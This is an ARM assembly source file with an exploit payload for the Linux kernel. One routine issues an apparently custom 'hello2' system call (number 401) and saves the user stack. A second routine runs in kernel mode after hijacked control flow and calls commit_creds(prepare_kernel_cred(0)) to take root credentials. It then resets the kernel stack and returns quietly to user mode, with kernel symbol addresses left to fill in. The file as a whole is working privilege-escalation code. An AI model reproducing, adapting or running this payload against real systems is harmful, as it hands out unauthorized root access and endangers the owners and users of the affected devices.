/* SPDX-License-Identifier: MIT */
/*
 * What an attacker has the kernel execute, once the kernel returns to an
 * address of the attacker's choice; and the call it comes back from.
 */
#include "asm.h"

#define USR_MODE 0x10
#define THREAD_SIZE 8192	/* of a kernel stack, aligned to it */

	.syntax unified
	.arm
	.cfi_sections .debug_frame

/*
 * long call_hello2(struct hello2_in *in, struct hello2_out *out)
 *
 * Keeps everything that a caller may rely on where the kernel cannot lose it.
 * Out: r0 = result, or a negative error number
 */
ENTRY(call_hello2)
	push	{r3, r4, r5, r6, r7, r8, r9, r10, fp, lr}
	.cfi_def_cfa_offset 40
	.cfi_offset lr, -4
	.cfi_offset fp, -8
	add	fp, sp, #32		@ a frame, so that stacks can be read
	ldr	r7, =saved_sp
	str	sp, [r7]
	ldr	r7, =401		@ hello2
	svc	#0
.Lafter_call:
	pop	{r3, r4, r5, r6, r7, r8, r9, r10, fp, pc}
END(call_hello2)

/*
 * Runs in SVC mode, on the kernel's stack, from user memory. The registers
 * are rubbish but for sp, which is as sys_hello2's caller expects it.
 *
 * Become root; leave the kernel's stack empty, as the next system call wants
 * it; go back to user mode behind the svc, as if hello2 had returned 0.
 */
ENTRY(payload)
	mov	r0, #0			@ the kernel's own credentials
	ldr	r1, =prepare_kernel_cred
	ldr	r1, [r1]
	blx	r1
	ldr	r1, =commit_creds	@ are ours from now on
	ldr	r1, [r1]
	blx	r1

	cpsid	i			@ no interrupt from here to user mode
	ldr	r1, =THREAD_SIZE - 1
	orr	sp, sp, r1
	sub	sp, sp, #7		@ the top, less two words
	mov	r0, #0
	mov	r1, #USR_MODE
	msr	spsr_cxsf, r1
	ldr	lr, =saved_sp
	ldm	lr, {sp}^		@ sp_usr: another thread's till now
	ldr	lr, =.Lafter_call
	movs	pc, lr
END(payload)

	.section .data.payload, "aw", %progbits
	.balign	4
saved_sp:				@ in call_hello2(), of the user's stack
	.word	0

/* Addresses of the kernel's functions, to be filled in. */
	.globl	prepare_kernel_cred, commit_creds
prepare_kernel_cred:
	.word	0
commit_creds:
	.word	0

	.section .note.GNU-stack, "", %progbits
